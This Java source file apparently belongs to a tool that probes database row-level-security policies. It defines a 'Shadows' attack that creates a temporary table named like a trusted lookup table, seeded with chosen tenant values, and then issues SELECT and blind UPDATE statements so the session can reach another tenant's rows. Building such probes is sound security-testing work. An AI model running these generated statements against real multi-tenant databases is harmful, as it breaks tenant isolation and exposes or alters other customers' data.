package hedgerow.rls.probe;

import hedgerow.rls.catalog.Policy.Command;
import hedgerow.rls.catalog.Relation;
import hedgerow.rls.catalog.Role;
import hedgerow.rls.logic.SqlText;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

/// A temporary table in place of one that policies look up, by which the session gives itself access to the
/// other tenant.
record Shadows() implements Attack {

    @Override
    public List<Shot> shots(Field field, Role role) {
        return field.hints().trusted().stream()
                .flatMap(oid -> field.model().catalog().relation(oid).stream())
                .filter(Relation::isTable)
                .flatMap(table -> of(field, role, table))
                .toList();
    }

    private static Stream<Shot> of(Field field, Role role, Relation trusted) {
        var own = field.seeds().first(trusted, Party.OWN);
        var foreign = field.seeds().first(trusted, Party.FOREIGN);
        if (own.isEmpty() || foreign.isEmpty()) {
            return Stream.of();
        }
        var columns = trusted.columns().stream()
                .map(column -> {
                    var at = new Links.At(trusted.oid(), column.number());
                    var row = field.links().anchor(at).isPresent() ? own.get() : foreign.get();
                    return "%s::%s as %s".formatted(row.literal(column), column.typeName(), column.quoted());
                })
                .collect(Collectors.joining(", "));
        var shadow = "create temporary table %s as select %s".formatted(SqlText.identifier(trusted.name()), columns);
        var shots = new ArrayList<Shot>();
        for (var table : field.tables()) {
            if (field.isOpen(role, table, Command.SELECT)) {
                shots.add(Shot.read(
                        "shadowed " + trusted.name(),
                        table.quoted(),
                        "SELECT",
                        "%s; select %s from %s"
                                .formatted(
                                        shadow,
                                        Field.list(field.columns(role, table, Command.SELECT)),
                                        table.quoted())));
            }
            if (field.isOpen(role, table, Command.UPDATE)) {
                Updates.blind(field, role, table)
                        .map(update -> Shot.write(
                                "shadowed " + trusted.name(), table.quoted(), "UPDATE", shadow + "; " + update))
                        .forEach(shots::add);
            }
        }
        return shots.stream();
    }
}
